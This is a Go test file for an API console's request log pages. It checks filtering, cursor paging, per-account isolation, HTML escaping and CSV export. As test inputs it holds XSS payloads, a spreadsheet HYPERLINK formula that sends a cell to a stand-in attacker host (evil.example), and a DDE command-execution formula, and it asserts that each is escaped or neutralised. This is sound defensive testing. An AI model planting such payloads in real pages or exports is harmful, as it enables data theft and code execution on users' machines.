package handlers_test

import (
	"context"
	"encoding/csv"
	"math/rand/v2"
	"net/http"
	"net/url"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/PuerkitoBio/goquery"
	"github.com/oklog/ulid/v2"

	"ttconsole/internal/testenv"
	"ttconsole/models"
)

const rqPassword = testenv.Password

// rqAccount is a signed-in console user with an account and a key.
type rqAccount struct {
	id     string
	email  string
	key    *models.APIKey
	secret string
	b      *browser
}

// rqNewAccount makes an account with an empty wallet and one key, and
// signs in to its console.
func rqNewAccount(t *testing.T, srv *testenv.Server, email string) *rqAccount {
	t.Helper()
	a := testenv.FundedKey(t, srv.Store, email, 0, models.KeyInput{Name: "main"})
	b := newBrowser(t, srv)
	if res, _ := b.login(email, rqPassword); res.StatusCode != http.StatusSeeOther {
		t.Fatalf("login: %d", res.StatusCode)
	}
	return &rqAccount{id: a.ID, email: email, key: a.Key, secret: a.Secret, b: b}
}

// rqLog stores a request row at time at, the way the gateway would.
func rqLog(t *testing.T, srv *testenv.Server, r models.Request, at time.Time) *models.Request {
	t.Helper()
	if r.ID == "" {
		r.ID = models.NewRequestIDAt(at)
	}
	if r.Method == "" {
		r.Method, r.Path = "POST", "/v1/chat/completions"
	}
	r.CreatedAt = at.UTC()
	if err := srv.Store.LogRequest(context.Background(), &r); err != nil {
		t.Fatal(err)
	}
	return &r
}

func ptr[T any](v T) *T { return &v }

// rqPageIDs follows the list's "Older" links from path and returns every
// request id shown, in order, and how many pages it took; between pages
// it runs between(page number).
func rqPageIDs(t *testing.T, b *browser, path string, between func(int)) ([]string, int) {
	t.Helper()
	var ids []string
	pages := 0
	for path != "" {
		res, page := b.get(path)
		if res.StatusCode != http.StatusOK {
			t.Fatalf("GET %s: %d", path, res.StatusCode)
		}
		pages++
		doc := testenv.Doc(t, page)
		doc.Find("tr[data-request-id]").Each(func(_ int, s *goquery.Selection) {
			id, _ := s.Attr("data-request-id")
			ids = append(ids, id)
		})
		next, ok := doc.Find(`a[rel=next]`).Attr("href")
		if !ok {
			break
		}
		if strings.Contains(next, "offset") {
			t.Fatalf("next page link %q uses an offset", next)
		}
		path = next
		if between != nil {
			between(pages)
		}
		if pages > 100 {
			t.Fatal("paging does not end")
		}
	}
	return ids, pages
}

func TestRequestsFiltersAndCursor(t *testing.T) {
	srv := testenv.NewServer(t)
	a := rqNewAccount(t, srv, "ada@example.com")
	other, _, err := srv.Store.CreateAPIKey(context.Background(), a.id, models.AdminCLI, models.KeyInput{Name: "batch"})
	if err != nil {
		t.Fatal(err)
	}
	type spec struct {
		status          int
		typ, outcome    string
		model           string
		key             string
		charged, holdMu int64
	}
	kinds := []spec{
		{200, "", models.OutcomeCharged, "tt-chat-small", a.key.ID, 1200, 5000},
		{200, "", models.OutcomeChargedPartial, "tt-chat-large", other.ID, 300, 9000},
		{429, "rate_limited", models.OutcomeNotChargedRejected, "tt-chat-small", a.key.ID, 0, 0},
		{403, "ip_not_allowed", models.OutcomeNotChargedRejected, "tt-chat-large", other.ID, 0, 0},
		{402, "billing_shortfall", models.OutcomeNotChargedRejected, "tt-chat-small", a.key.ID, 0, 4000},
		{502, "upstream_error", models.OutcomeNotChargedFailed, "tt-embed-1", other.ID, 0, 100},
	}
	now := time.Now().UTC()
	rng := rand.New(rand.NewPCG(1, 2))
	var all []*models.Request
	for i := range 173 {
		k := kinds[rng.IntN(len(kinds))]
		at := now.Add(-time.Duration(173-i) * time.Hour) // one an hour, a week back
		all = append(all, rqLog(t, srv, models.Request{
			AccountID: &a.id, KeyID: &k.key, Model: k.model, Status: k.status, ErrorType: k.typ,
			BillingOutcome: k.outcome, ChargedMicros: k.charged, HoldMicros: k.holdMu, ClientIP: "203.0.113.7",
		}, at))
	}
	// Another account's rows never show.
	b := rqNewAccount(t, srv, "bob@example.com")
	for i := range 7 {
		rqLog(t, srv, models.Request{AccountID: &b.id, KeyID: &b.key.ID, Status: 429, ErrorType: "rate_limited",
			Model: "tt-chat-small"}, now.Add(-time.Duration(i)*time.Hour))
	}

	from, to := now.Add(-100*time.Hour), now.Add(-20*time.Hour)
	cases := []struct {
		name  string
		query url.Values
		match func(*models.Request) bool
	}{
		{"unfiltered", url.Values{}, func(*models.Request) bool { return true }},
		{"status class", url.Values{"status": {"4xx"}}, func(r *models.Request) bool { return r.Status/100 == 4 }},
		{"status code", url.Values{"status": {"429"}}, func(r *models.Request) bool { return r.Status == 429 }},
		{"error type", url.Values{"type": {"ip_not_allowed"}}, func(r *models.Request) bool { return r.ErrorType == "ip_not_allowed" }},
		{"key", url.Values{"key": {other.ID}}, func(r *models.Request) bool { return *r.KeyID == other.ID }},
		{"model", url.Values{"model": {"tt-chat-large"}}, func(r *models.Request) bool { return r.Model == "tt-chat-large" }},
		{"outcome", url.Values{"outcome": {models.OutcomeNotChargedRejected}}, func(r *models.Request) bool {
			return r.BillingOutcome == models.OutcomeNotChargedRejected
		}},
		{"time range", url.Values{"from": {from.Format(time.RFC3339)}, "to": {to.Format(time.RFC3339)}}, func(r *models.Request) bool {
			return !r.CreatedAt.Before(from.Truncate(time.Second)) && r.CreatedAt.Before(to.Truncate(time.Second))
		}},
		{"combined", url.Values{"status": {"2xx"}, "model": {"tt-chat-small"}}, func(r *models.Request) bool {
			return r.Status/100 == 2 && r.Model == "tt-chat-small"
		}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			var want []string
			for i := len(all) - 1; i >= 0; i-- {
				if tc.match(all[i]) {
					want = append(want, all[i].ID)
				}
			}
			path := "/requests"
			if len(tc.query) > 0 {
				path += "?" + tc.query.Encode()
			}
			got, pages := rqPageIDs(t, a.b, path, nil)
			if !slices.Equal(got, want) {
				t.Fatalf("got %d ids over %d pages, want %d newest first, without duplicates or gaps", len(got), pages, len(want))
			}
			if wantPages := max(1, (len(want)+49)/50); pages != wantPages {
				t.Errorf("%d pages for %d rows, want %d", pages, len(want), wantPages)
			}
		})
	}

	t.Run("rows arriving between pages", func(t *testing.T) {
		var want []string
		for i := len(all) - 1; i >= 0; i-- {
			want = append(want, all[i].ID)
		}
		got, _ := rqPageIDs(t, a.b, "/requests", func(int) {
			for range 20 { // a burst of new calls while the customer reads
				rqLog(t, srv, models.Request{AccountID: &a.id, KeyID: &a.key.ID, Status: 200, Model: "tt-chat-small",
					BillingOutcome: models.OutcomeCharged}, time.Now())
			}
		})
		if !slices.Equal(got, want) {
			t.Fatalf("paging while rows arrive: got %d ids, want the %d that existed at the first page, in order", len(got), len(want))
		}
	})

	t.Run("bad filters say so", func(t *testing.T) {
		for q, field := range map[string]string{"status=7xx": "status", "from=yesterday": "from", "outcome=free": "outcome"} {
			res, page := a.b.get("/requests?" + q)
			if res.StatusCode != http.StatusBadRequest {
				t.Errorf("%s: status %d, want 400", q, res.StatusCode)
			}
			if testenv.Doc(t, page).Find(`.field-error[data-field="`+field+`"]`).Length() != 1 {
				t.Errorf("%s: no message beside %s", q, field)
			}
		}
		res, _ := a.b.get("/requests?cursor=not-an-id")
		if res.StatusCode != http.StatusBadRequest {
			t.Errorf("bad cursor: %d", res.StatusCode)
		}
	})

	t.Run("chart", func(t *testing.T) {
		_, page := a.b.get("/requests?status=5xx")
		if strings.Contains(page, "style=") {
			t.Fatal("inline style on the page: the CSP forbids it")
		}
		src, _ := testenv.Doc(t, page).Find(`[data-testid=status-chart] [data-chart-src]`).Attr("data-chart-src")
		if src != "/requests/chart.svg?status=5xx" {
			t.Fatalf("chart %q does not keep the filter", src)
		}
		res, svg := a.b.get(src + "&from=" + url.QueryEscape(now.Add(-8*24*time.Hour).Format(time.RFC3339)))
		if res.StatusCode != http.StatusOK || !strings.HasPrefix(res.Header.Get("Content-Type"), "image/svg+xml") {
			t.Fatalf("chart: %d %s", res.StatusCode, res.Header.Get("Content-Type"))
		}
		if !strings.Contains(svg, `class="s5xx"`) || strings.Contains(svg, `class="s2xx"`) || strings.Contains(svg, "style") {
			t.Fatal("the 5xx chart lacks 5xx bars, shows 2xx bars, or uses inline style")
		}
		n5 := 0
		for _, r := range all {
			if r.Status/100 == 5 {
				n5++
			}
		}
		if !strings.Contains(svg, "5xx "+strconv.Itoa(n5)) {
			t.Fatalf("the chart's 5xx total is not %d", n5)
		}
		if res, _ := b.b.get(src); res.StatusCode != http.StatusOK {
			t.Fatal("chart for another account")
		}
	})
}

func TestRequestsEmptyStates(t *testing.T) {
	srv := testenv.NewServer(t)
	a := rqNewAccount(t, srv, "new@example.com")
	_, page := a.b.get("/requests")
	if !strings.Contains(page, "No requests yet") || !strings.Contains(page, "curl "+srv.URL+"/v1/chat/completions") {
		t.Fatal("a new account's Requests page lacks its empty state with a curl")
	}
	rqLog(t, srv, models.Request{AccountID: &a.id, Status: 200, Model: "tt-chat-small"}, time.Now())
	_, page = a.b.get("/requests?status=5xx")
	if !strings.Contains(page, "No requests match these filters") || !strings.Contains(page, "clear the filters") {
		t.Fatal("a filter matching nothing does not say so")
	}
	_, page = a.b.get("/")
	if !strings.Contains(page, "No failed requests") {
		t.Fatal("overview lacks the empty state of failed requests")
	}
}

// The model filter lists the models of the catalogue, as the database
// holds it: a model added there is offered without a new release.
func TestRequestsModelFilterListsTheCatalogue(t *testing.T) {
	srv := testenv.NewServer(t)
	if err := srv.Store.AddModel(context.Background(), models.CatalogModel{ID: "tt-chat-next", Kind: models.KindChat,
		InputMicrosPerMTok: 1_000_000, OutputMicrosPerMTok: 2_000_000, MaxOutputTokens: 8192}); err != nil {
		t.Fatal(err)
	}
	a := rqNewAccount(t, srv, "models@example.com")
	_, page := a.b.get("/requests")
	var got []string
	testenv.Doc(t, page).Find("select#f-model option").Each(func(_ int, o *goquery.Selection) {
		got = append(got, o.AttrOr("value", ""))
	})
	catalogue, err := srv.Store.Models(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	var want []string
	for _, m := range catalogue {
		want = append(want, m.ID)
	}
	slices.Sort(got)
	want = append(want, "") // any model
	slices.Sort(want)
	if !slices.Contains(got, "tt-chat-next") || !slices.Equal(got, want) {
		t.Fatalf("model choices %v, want any and the catalogue's %v, the added model among them", got, want)
	}

	// A link naming a model the catalogue no longer lists keeps it chosen.
	_, page = a.b.get("/requests?model=tt-chat-old")
	if sel := testenv.Doc(t, page).Find(`select#f-model option[selected]`); sel.AttrOr("value", "") != "tt-chat-old" {
		t.Fatalf("a filter on a retired model shows %q chosen", sel.AttrOr("value", ""))
	}
}

// A CSV download with a bad filter answers a plain 400 naming the field,
// not a page about highlighted fields that a download cannot show.
func TestRequestsCSVNamesABadFilter(t *testing.T) {
	srv := testenv.NewServer(t)
	a := rqNewAccount(t, srv, "csv@example.com")
	res, body := a.b.get("/requests.csv?from=bad&status=7xx")
	if res.StatusCode != http.StatusBadRequest || !strings.HasPrefix(res.Header.Get("Content-Type"), "text/plain") ||
		!strings.Contains(body, "from: ") || !strings.Contains(body, "status: ") || strings.Contains(body, "highlighted") {
		t.Fatalf("%d %s: %q", res.StatusCode, res.Header.Get("Content-Type"), body)
	}
}

// Billing outcomes read as words on the list, the filter and the detail
// page; the code stays in the tooltip and as small text.
func TestRequestsOutcomesInWords(t *testing.T) {
	srv := testenv.NewServer(t)
	a := rqNewAccount(t, srv, "words@example.com")
	r := rqLog(t, srv, models.Request{AccountID: &a.id, Status: 402, ErrorType: "billing_shortfall",
		BillingOutcome: models.OutcomeNotChargedRejected}, time.Now())
	rqLog(t, srv, models.Request{AccountID: &a.id, Status: 200, Stream: true, BillingOutcome: models.OutcomeChargedPartial}, time.Now())
	rqLog(t, srv, models.Request{AccountID: &a.id, Status: 202, Path: "/v1/tasks", Method: "POST", BillingOutcome: models.OutcomeNotChargedFailed}, time.Now())
	rqLog(t, srv, models.Request{AccountID: &a.id, Status: 200, BillingOutcome: models.OutcomeCharged}, time.Now())
	_, page := a.b.get("/requests")
	doc := testenv.Doc(t, page)
	// A success code that hides what became of the call says so, and is not green.
	statuses := map[string]string{}
	doc.Find("tr").Each(func(_ int, tr *goquery.Selection) {
		if code, ok := tr.Find("td.c-outcome .badge").Attr("title"); ok {
			b := tr.Find("td.c-status .badge")
			statuses[code] = strings.TrimSpace(b.Text()) + " " + b.AttrOr("class", "")
		}
	})
	if statuses["charged_partial"] != "200 · cut off badge warn" || statuses["not_charged_failed"] != "202 · failed badge err" ||
		statuses["charged"] != "200 badge ok" {
		t.Fatalf("status badges by outcome: %v", statuses)
	}
	badges := map[string]string{}
	doc.Find("td.c-outcome .badge").Each(func(_ int, b *goquery.Selection) {
		badges[b.AttrOr("title", "")] = strings.TrimSpace(b.Text())
	})
	if badges["not_charged_rejected"] != "Not charged — rejected" || badges["charged_partial"] != "Charged for delivered tokens" {
		t.Fatalf("outcome badges by code: %v", badges)
	}
	if got := doc.Find(`#f-outcome option[value="not_charged_expired"]`).Text(); got != "Not charged — expired" {
		t.Fatalf("the outcome filter offers %q for not_charged_expired", got)
	}
	_, page = a.b.get("/requests/" + r.ID)
	h2 := testenv.Doc(t, page).Find(`[data-testid=outcome] h2`)
	if got := h2.Find(".badge").Text(); got != "Not charged — rejected" || !strings.Contains(h2.Text(), "not_charged_rejected") {
		t.Fatalf("the detail page's outcome heading: %q", h2.Text())
	}
}

func TestRequestLookup(t *testing.T) {
	srv := testenv.NewServer(t)
	a := rqNewAccount(t, srv, "ada@example.com")
	b := rqNewAccount(t, srv, "bob@example.com")
	mine := rqLog(t, srv, models.Request{AccountID: &a.id, KeyID: &a.key.ID, Status: 403, ErrorType: "ip_not_allowed"}, time.Now())
	theirs := rqLog(t, srv, models.Request{AccountID: &b.id, KeyID: &b.key.ID, Status: 200}, time.Now())
	anon := rqLog(t, srv, models.Request{Status: 401, ErrorType: "unauthorized"}, time.Now())

	for _, q := range []string{mine.ID, "  " + mine.ID + " ", "X-TT-Request-ID: " + mine.ID} {
		res, _ := a.b.get("/requests?q=" + url.QueryEscape(q))
		if res.StatusCode != http.StatusSeeOther || res.Header.Get("Location") != "/requests/"+mine.ID {
			t.Fatalf("lookup %q: %d to %q, want 303 to the request", q, res.StatusCode, res.Header.Get("Location"))
		}
	}
	unknown := "req_" + ulid.Make().String()
	var answers []string
	for _, q := range []string{unknown, theirs.ID, anon.ID, "hello"} {
		res, page := a.b.get("/requests?q=" + url.QueryEscape(q))
		if res.StatusCode != http.StatusNotFound {
			t.Fatalf("lookup %q: %d, want 404", q, res.StatusCode)
		}
		msg := strings.TrimSpace(testenv.Doc(t, page).Find(`.field-error[data-field=q]`).Text())
		answers = append(answers, msg)
	}
	for _, msg := range answers {
		if msg != "No request with this id in your account." {
			t.Fatalf("lookup answers %q: every unknown or foreign id must get the same words", answers)
		}
	}
}

func TestRequestsIsolation(t *testing.T) {
	srv := testenv.NewServer(t)
	a := rqNewAccount(t, srv, "ada@example.com")
	b := rqNewAccount(t, srv, "bob@example.com")
	theirs := rqLog(t, srv, models.Request{AccountID: &b.id, KeyID: &b.key.ID, Status: 403, ErrorType: "ip_not_allowed",
		ClientIP: "198.51.100.9", Model: "tt-chat-small", ErrorMessage: "bob's secret message"}, time.Now())
	anon := rqLog(t, srv, models.Request{Status: 401, ErrorType: "unauthorized", ErrorMessage: "anonymous"}, time.Now())
	rqLog(t, srv, models.Request{AccountID: &a.id, KeyID: &a.key.ID, Status: 200}, time.Now())

	for _, id := range []string{theirs.ID, anon.ID} {
		res, page := a.b.get("/requests/" + id)
		if res.StatusCode != http.StatusNotFound || !strings.Contains(page, "No request with this id in your account.") {
			t.Fatalf("another account's request page: %d", res.StatusCode)
		}
		if strings.Contains(page, "secret message") || strings.Contains(page, "anonymous") {
			t.Fatal("the 404 leaks the request")
		}
	}
	_, list := a.b.get("/requests")
	_, csvBody := a.b.get("/requests.csv")
	_, keyFiltered := a.b.get("/requests.csv?key=" + b.key.ID)
	for name, body := range map[string]string{"list": list, "csv": csvBody, "csv filtered by their key": keyFiltered} {
		if strings.Contains(body, theirs.ID) || strings.Contains(body, anon.ID) {
			t.Errorf("%s shows a request of another account or of no account", name)
		}
	}
	if n := len(strings.Split(strings.TrimSpace(keyFiltered), "\r\n")); n != 1 {
		t.Errorf("CSV filtered by another account's key has %d lines, want the header only", n)
	}
	// A fix on another account's request changes nothing.
	res, _ := a.b.post("/requests", "/requests/"+theirs.ID+"/fix/allow-ip", nil)
	if res.StatusCode != http.StatusNotFound {
		t.Fatalf("fix on another account's request: %d, want 404", res.StatusCode)
	}
	k, err := srv.Store.APIKeyOf(context.Background(), b.id, b.key.ID)
	if err != nil || k.AllowedIPs != "" {
		t.Fatalf("their key changed: %q %v", k.AllowedIPs, err)
	}
}

func TestRequestsEscapeWhatCallersSent(t *testing.T) {
	srv := testenv.NewServer(t)
	a := rqNewAccount(t, srv, "ada@example.com")
	model := `<script>alert("model")</script>`
	msg := `Unknown model "<script>alert(1)</script>" <img src=x onerror=alert(2)>`
	r := rqLog(t, srv, models.Request{AccountID: &a.id, KeyID: &a.key.ID, Status: 400, ErrorType: "invalid_request",
		Model: model, ErrorMessage: msg, ErrorBody: `{"error":{"type":"invalid_request","message":"` + msg + `"}}`,
		Path: "/v1/chat/completions?<b>x</b>", Method: "POST"}, time.Now())
	for _, path := range []string{"/requests", "/requests/" + r.ID, "/"} {
		_, page := a.b.get(path)
		if strings.Contains(page, "<script>alert") || strings.Contains(page, "<img src=x") || strings.Contains(page, "<b>x</b>") {
			t.Fatalf("%s renders caller-sent HTML as markup", path)
		}
		if !strings.Contains(testenv.Doc(t, page).Text(), `<script>alert(1)</script>`) {
			t.Fatalf("%s does not show the message as text", path)
		}
	}
}

func TestRequestsCSVQuotingAndFormulas(t *testing.T) {
	srv := testenv.NewServer(t)
	a := rqNewAccount(t, srv, "ada@example.com")
	msgs := []string{
		`=HYPERLINK("http://evil.example/?x="&A1,"click")`,
		"+1+2", "-3+4", "@SUM(A1:A9)", "\tTAB", "plain, with comma", `she said "hi"`, "two\nlines", "",
	}
	base := time.Now().Add(-time.Hour)
	for i, m := range msgs {
		rqLog(t, srv, models.Request{AccountID: &a.id, KeyID: &a.key.ID, Status: 400, ErrorType: "invalid_request",
			ErrorMessage: m, Model: "=cmd|' /C calc'!A0", ChargedMicros: 1536, HoldMicros: 9000}, base.Add(time.Duration(i)*time.Minute))
	}
	res, body := a.b.get("/requests.csv?status=400")
	if ct := res.Header.Get("Content-Type"); !strings.HasPrefix(ct, "text/csv") {
		t.Fatalf("content type %q", ct)
	}
	if !strings.Contains(res.Header.Get("Content-Disposition"), "attachment") {
		t.Fatal("CSV is not an attachment")
	}
	if !strings.HasPrefix(body, "request_id,created_at_utc,") || !strings.Contains(body, "\r\n") {
		t.Fatalf("CSV lacks the header row or CRLF line ends: %q", body[:min(80, len(body))])
	}
	recs, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatalf("not valid RFC 4180: %v", err)
	}
	if len(recs) != len(msgs)+1 {
		t.Fatalf("%d records, want header + %d", len(recs), len(msgs))
	}
	col := map[string]int{}
	for i, h := range recs[0] {
		col[h] = i
	}
	for i, m := range msgs {
		rec := recs[len(msgs)-i] // newest first
		got := rec[col["error_message"]]
		want := m
		if m != "" && strings.ContainsRune("=+-@\t", rune(m[0])) {
			want = "'" + m
		}
		if got != want {
			t.Errorf("error_message %q, want %q", got, want)
		}
		if rec[col["model"]] != "'=cmd|' /C calc'!A0" {
			t.Errorf("model cell %q not neutralised", rec[col["model"]])
		}
		if rec[col["charged_micros"]] != "1536" || rec[col["key_name"]] != "main" {
			t.Errorf("charged %q key %q", rec[col["charged_micros"]], rec[col["key_name"]])
		}
	}
}

// TestRequestsCSVBytes checks the export byte for byte against
// encoding/csv's RFC 4180 output of the expected cells: quotes doubled,
// CRLF inside quoted cells, leading spaces quoted, formula cells
// neutralised, HTML and non-ASCII text as sent, a call without a key.
func TestRequestsCSVBytes(t *testing.T) {
	srv := testenv.NewServer(t)
	a := rqNewAccount(t, srv, "ada@example.com")
	ctx := context.Background()
	named, _, err := srv.Store.CreateAPIKey(ctx, a.id, models.AdminCLI, models.KeyInput{Name: `@ops, "night" 日本`})
	if err != nil {
		t.Fatal(err)
	}
	vals := []string{
		"", "plain", "a, b", `say "hi"`, "two\nlines", "cr\ronly", "crlf\r\nend", "=1+2", "+1", "-1", "@x", "\tTAB", "\rCR",
		" lead", "\u00a0nbsp", "\u3000wide", `\.`, `<img src=x onerror=alert(1)>`, "日本語 🙂",
	}
	base := time.Date(2026, 11, 25, 10, 0, 0, 0, time.UTC)
	want := &strings.Builder{}
	w := csv.NewWriter(want)
	w.UseCRLF = true
	w.Write(strings.Split("request_id,created_at_utc,method,path,model,status,error_type,error_message,key_id,key_name,client_ip,"+
		"stream,latency_ms,prompt_tokens,completion_tokens,hold_micros,charged_micros,billing_outcome", ","))
	var recs [][]string
	for i, v := range vals {
		at := base.Add(time.Duration(i)*time.Second + 7_654_321*time.Nanosecond)
		r := models.Request{AccountID: &a.id, Method: "POST", Path: "/v1/chat/completions", Model: v, Status: 400,
			ErrorType: "invalid_request", ErrorMessage: v, ClientIP: "203.0.113.7", Stream: i%2 == 0, LatencyMS: int64(i),
			PromptTokens: 10, HoldMicros: 1536, BillingOutcome: models.OutcomeNotChargedRejected}
		keyID, keyName := "", ""
		switch i % 3 {
		case 1:
			r.KeyID, keyID, keyName = &a.key.ID, a.key.ID, "main"
		case 2:
			r.KeyID, keyID, keyName = &named.ID, named.ID, "'"+named.Name
		}
		cell := v
		if v != "" && strings.ContainsRune("=+-@\t\r", rune(v[0])) {
			cell = "'" + v
		}
		row := rqLog(t, srv, r, at)
		recs = append(recs, []string{row.ID, at.Format("2006-01-02T15:04:05.000Z"), "POST", "/v1/chat/completions", cell, "400",
			"invalid_request", cell, keyID, keyName, "203.0.113.7", strconv.FormatBool(i%2 == 0), strconv.Itoa(i), "10", "0",
			"1536", "0", models.OutcomeNotChargedRejected})
	}
	for i := len(recs) - 1; i >= 0; i-- {
		w.Write(recs[i])
	}
	w.Flush()
	_, body := a.b.get("/requests.csv")
	if body != want.String() {
		t.Fatalf("export:\n%q\nwant:\n%q", body, want.String())
	}
}

func TestRequestsCSVFollowsTheFilters(t *testing.T) {
	srv := testenv.NewServer(t)
	a := rqNewAccount(t, srv, "ada@example.com")
	for i := range 120 {
		st := 200
		if i%3 == 0 {
			st = 503
		}
		rqLog(t, srv, models.Request{AccountID: &a.id, KeyID: &a.key.ID, Status: st}, time.Now().Add(-time.Duration(i)*time.Minute))
	}
	_, page := a.b.get("/requests?status=5xx")
	href, _ := testenv.Doc(t, page).Find(`[data-testid=csv-export]`).Attr("href")
	if href != "/requests.csv?status=5xx" {
		t.Fatalf("export link %q does not keep the filter", href)
	}
	_, body := a.b.get(href)
	recs, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil || len(recs) != 41 {
		t.Fatalf("%d records (%v), want header + 40", len(recs), err)
	}
}
